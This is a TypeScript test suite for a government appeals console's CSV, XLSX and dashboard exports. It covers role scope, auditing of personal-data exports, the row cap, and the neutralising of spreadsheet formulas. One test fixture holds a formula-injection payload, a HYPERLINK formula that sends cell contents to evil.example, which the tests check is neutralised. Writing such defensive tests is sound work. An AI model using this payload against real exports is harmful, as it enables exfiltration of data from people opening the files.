import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  defaultAppeal,
  type StaffAgent,
  startTestSystem,
  type TestSystem,
} from '../../app/testing/test-system.ts';
import { appealListSchema } from '../../contracts/console.schema.ts';
import { exportWords } from '../../contracts/export-words.ts';
import { cloneAppeals } from '../analytics/testing.ts';
import { FixedClock } from '../clock.ts';
import { localDateOf } from '../deadlines/calendar.ts';
import { EXPORT_ROW_CAP } from './export-appeals.ts';

const clock = new FixedClock('2026-11-25T05:00:00Z');
let t: TestSystem;
let head: StaffAgent;
let otherHead: StaffAgent;
let auditor: StaffAgent;
let analyst: StaffAgent;
let security: StaffAgent;
const numbers: Record<'plain' | 'formula' | 'phoned' | 'andijan' | 'officer', string> = {
  plain: '',
  formula: '',
  phoned: '',
  andijan: '',
  officer: '',
};
const formulaText = '=HYPERLINK("http://evil.example/?x="&A1,"Batafsil") qoʻshnim shovqin qiladi';

/** A CSV as RFC 4180 reads it: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

function xlsxRows(body: Buffer): unknown[][] {
  const book = XLSX.read(body, { type: 'buffer' });
  const sheet = book.Sheets[book.SheetNames[0] ?? ''];
  if (!sheet) throw new Error('no sheet');
  return XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: null });
}

async function get(agent: StaffAgent, url: string, language = 'ru') {
  return agent.request({ method: 'GET', url, headers: { 'accept-language': language } });
}

async function csvOf(agent: StaffAgent, query: string) {
  const response = await get(agent, `/api/v1/appeals?${query}&format=csv`);
  expect(response.statusCode, response.body).toBe(200);
  return parseCsv(response.rawPayload.toString('utf8').replace(/^\uFEFF/, ''));
}

async function jsonItems(agent: StaffAgent, query: string) {
  const response = await get(agent, `/api/v1/appeals?${query}&pageSize=200`);
  expect(response.statusCode, response.body).toBe(200);
  return appealListSchema.parse(response.json()).items;
}

beforeAll(async () => {
  t = await startTestSystem({ clock });
  head = await t.staff('head-yunusobod-x', 'head', 'IIV-1726266', { scopeSubtree: true });
  otherHead = await t.staff('head-andijan-x', 'head', 'IIV-1703202', { scopeSubtree: true });
  auditor = await t.staff('auditor-x', 'auditor', 'IIV-1726266', { scopeSubtree: true });
  analyst = await t.staff('analyst-x', 'analyst', 'IIV-1726266', { scopeSubtree: true });
  security = await t.staff('isec-x', 'internal_security', 'IIV-1726-ISEC');
  numbers.plain = (await t.fileAppeal({ text: 'Koʻchamizda chiroqlar yonmaydi, kechasi qorongʻi.' })).number;
  numbers.formula = (await t.fileAppeal({ text: formulaText })).number;
  numbers.phoned = (
    await t.fileAppeal({ applicant: { ...defaultAppeal.applicant, phone: '+998901234567' } })
  ).number;
  numbers.andijan = (
    await t.fileAppeal({ territory: '1703202', text: 'Andijonda yoʻl buzilgan, taʼmirlang.' })
  ).number;
  numbers.officer = (
    await t.fileAppeal({
      type: 'shikoyat',
      category: 'officer_conduct',
      text: 'Yunusobod IIB xodimi menga qoʻpol muomala qildi va haqorat qildi.',
    })
  ).number;
});
afterAll(async () => {
  await t?.stop();
});

describe('appeal list exports', () => {
  it('exports as CSV exactly the rows, order and columns the JSON list gives for the same query', async () => {
    const items = await jsonItems(head, 'sort=received_asc');
    expect(items.length).toBeGreaterThanOrEqual(3);
    const [header, ...rows] = await csvOf(head, 'sort=received_asc');
    const words = exportWords.ru;
    expect(header).toEqual([
      words.columns.number,
      words.columns.type,
      words.columns.status,
      words.columns.category,
      words.columns.text,
      words.columns.territory,
      words.columns.received,
      words.columns.due,
      words.columns.daysLeft,
      words.columns.unit,
      words.columns.urgent,
      words.columns.aboutOfficer,
      words.columns.repeat,
    ]);
    const ref = t.system.ctx.reference();
    const expected = items.map((item) => [
      item.number,
      words.types[item.type],
      words.statuses[item.status],
      item.category ? (ref.categories.get(item.category)?.names.ru ?? '') : '',
      item.excerpt.startsWith('=') ? `'${item.excerpt}` : item.excerpt,
      item.territory ? (ref.territories.get(item.territory)?.names.ru ?? '') : '',
      localDateOf(new Date(item.receivedAt)),
      item.dueOn,
      item.daysLeft === null ? '' : String(item.daysLeft),
      item.unit?.name ?? '',
      item.urgent ? words.yes : '',
      item.aboutOfficer ? words.yes : '',
      item.repeat ? words.yes : '',
    ]);
    expect(rows).toEqual(expected);
  });

  it('exports as XLSX the same rows as the CSV, text as text cells and never a formula', async () => {
    const csv = await csvOf(head, 'sort=due_asc');
    const response = await get(head, '/api/v1/appeals?sort=due_asc&format=xlsx');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const rows = xlsxRows(response.rawPayload);
    const asCsv = rows.map((row) =>
      row.map((cell) =>
        cell === null ? '' : typeof cell === 'string' && cell.startsWith('=') ? `'${cell}` : String(cell),
      ),
    );
    expect(asCsv).toEqual(csv);
    const book = XLSX.read(response.rawPayload, { type: 'buffer', cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
    const formulaCells = Object.entries(sheet).filter(([key, cell]) => !key.startsWith('!') && 'f' in cell);
    expect(formulaCells).toEqual([]);
    const formulaRow = rows.find((row) => row[0] === numbers.formula);
    expect(formulaRow?.[4]).toBe(formulaText);
  });

  it('neutralises a formula in the CSV and starts the file with a BOM so Excel reads Cyrillic', async () => {
    const response = await get(head, '/api/v1/appeals?format=csv', 'oz');
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="appeals-2026-11-25\.csv"$/,
    );
    expect(response.headers['cache-control']).toBe('no-store');
    const rows = parseCsv(response.rawPayload.toString('utf8').slice(1));
    expect(rows[0]?.[0]).toBe('Рақам');
    const formulaRow = rows.find((row) => row[0] === numbers.formula);
    expect(formulaRow?.[4]).toBe(`'${formulaText}`);
    expect(response.rawPayload.toString('utf8')).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('keeps to the viewer’s scope: another unit’s head gets only their rows, a complaint hidden in JSON is absent', async () => {
    const own = (await csvOf(head, 'sort=received_asc')).slice(1).map((row) => row[0]);
    expect(own).toEqual(expect.arrayContaining([numbers.plain, numbers.formula, numbers.phoned]));
    expect(own).not.toContain(numbers.andijan);
    expect(own).not.toContain(numbers.officer);
    expect((await jsonItems(head, 'sort=received_asc')).map((i) => i.number)).not.toContain(numbers.officer);

    const other = (await csvOf(otherHead, 'sort=received_asc')).slice(1).map((row) => row[0]);
    expect(other).toEqual([numbers.andijan]);

    const sec = (await csvOf(security, 'sort=received_asc')).slice(1).map((row) => row[0]);
    expect(sec).toContain(numbers.officer);
  });

  it('writes the headers in the language the link asks for, whatever the browser sends', async () => {
    const rows = await csvOf(head, 'lang=en');
    expect(rows[0]?.[0]).toBe(exportWords.en.columns.number);
  });

  it('applies the list’s filters to the export', async () => {
    const filtered = (await csvOf(head, 'q=chiroqlar')).slice(1).map((row) => row[0]);
    expect(filtered).toEqual((await jsonItems(head, 'q=chiroqlar')).map((i) => i.number));
    expect(filtered).toEqual([numbers.plain]);
  });

  it('adds the applicant’s name and phone only on request, for a role that sees them, and audits that export', async () => {
    const plain = await get(head, '/api/v1/appeals?format=csv');
    expect(plain.rawPayload.toString('utf8')).not.toContain('Karimov');
    expect(plain.rawPayload.toString('utf8')).not.toContain('901234567');
    const before = await auditRows();

    const rows = await csvOf(head, 'sort=received_asc&personal=true');
    expect(rows[0]?.slice(-2)).toEqual([exportWords.ru.columns.applicant, exportWords.ru.columns.phone]);
    const phoned = rows.find((row) => row[0] === numbers.phoned);
    // A phone starts with +, which a spreadsheet would read as a formula: it stays text behind an apostrophe.
    expect(phoned?.slice(-2)).toEqual(['Karimov Aziz', "'+998901234567"]);

    const after = await auditRows();
    expect(after.length).toBe(before.length + 1);
    const entry = after.at(-1);
    expect(entry?.actor_label).toBe('head-yunusobod-x');
    expect(entry?.data).toMatchObject({
      rows: rows.length - 1,
      format: 'csv',
      filters: { sort: 'received_asc' },
    });
  });

  it('refuses personal data to a role that may not see it, and writes the file without it otherwise', async () => {
    const refused = await get(auditor, '/api/v1/appeals?format=xlsx&personal=true');
    expect(refused.statusCode).toBe(403);
    expect(refused.json().error.code).toBe('FORBIDDEN');
    const allowed = await get(auditor, '/api/v1/appeals?format=xlsx');
    expect(allowed.statusCode).toBe(200);
    const text = JSON.stringify(xlsxRows(allowed.rawPayload));
    expect(text).toContain(numbers.phoned);
    expect(text).not.toContain('Karimov');
    expect(text).not.toContain('901234567');
    const analystExport = await get(analyst, '/api/v1/appeals?format=csv');
    expect(analystExport.statusCode).toBe(403);
  });

  it('does not audit an export without personal data', async () => {
    const before = await auditRows();
    await csvOf(head, 'sort=received_asc');
    expect((await auditRows()).length).toBe(before.length);
  });

  it('answers 400 with a stable code for an unknown format', async () => {
    const response = await get(head, '/api/v1/appeals?format=pdf');
    expect(response.statusCode).toBe(400);
    expect(response.json().error.code).toBe('VALIDATION_FAILED');
    expect(response.json().error.fields[0].path).toBe('querystring.format');
  });
});

describe('dashboard exports', () => {
  it('exports the head’s dashboard with the figures the JSON shows', async () => {
    const json = (await get(head, '/api/v1/dashboard?days=30', 'en')).json();
    const response = await get(head, '/api/v1/dashboard?days=30&format=csv', 'en');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="dashboard-IIV-1726266-2026-11-25.csv"',
    );
    const rows = parseCsv(response.rawPayload.toString('utf8').slice(1));
    const words = exportWords.en.dashboard;
    expect(rows[0]).toEqual([words.unit, json.unit.name]);
    expect(rows.find((row) => row[0] === words.open)?.[1]).toBe(String(json.load.open));
    expect(rows.find((row) => row[0] === words.received)?.[1]).toBe(String(json.load.receivedInPeriod));
    for (const s of json.load.byStatus) {
      expect(rows.find((row) => row[0] === exportWords.en.statuses[s.status as 'registered'])?.[1]).toBe(
        String(s.count),
      );
    }

    const xlsx = await get(head, '/api/v1/dashboard?days=30&format=xlsx', 'en');
    expect(xlsx.statusCode).toBe(200);
    const sheet = xlsxRows(xlsx.rawPayload);
    expect(sheet.find((row) => row[0] === words.open)?.[1]).toBe(json.load.open);
  });

  it('keeps the dashboard export to the head’s scope', async () => {
    const response = await get(otherHead, '/api/v1/dashboard?unit=IIV-1726266&format=csv');
    expect(response.statusCode).toBe(403);
    expect(response.json().error.code).toBe('FORBIDDEN');
  });
});

async function auditRows() {
  return t.system.ctx.db
    .selectFrom('audit_log')
    .select(['actor_label', 'data'])
    .where('action', '=', 'appeals.export_personal')
    .orderBy('id')
    .execute();
}

describe('the export cap', () => {
  it('refuses more than 50,000 appeals in one file with a stable code, and exports them once narrowed', async () => {
    await cloneAppeals(
      t.ownerDb,
      numbers.plain,
      Array.from({ length: EXPORT_ROW_CAP }, (_, i) => ({
        on: '2026-10-01',
        hour: 9,
        territory: '1726266',
        category: 'theft',
        text: `Telefonim oʻgʻirlandi ${i}`,
      })),
    );
    const refused = await get(head, '/api/v1/appeals?format=csv');
    expect(refused.statusCode).toBe(422);
    expect(refused.json().error.code).toBe('EXPORT_TOO_LARGE');
    const narrowed = await csvOf(head, 'receivedTo=2026-10-01');
    expect(narrowed).toHaveLength(EXPORT_ROW_CAP + 1);
  }, 120_000);
});
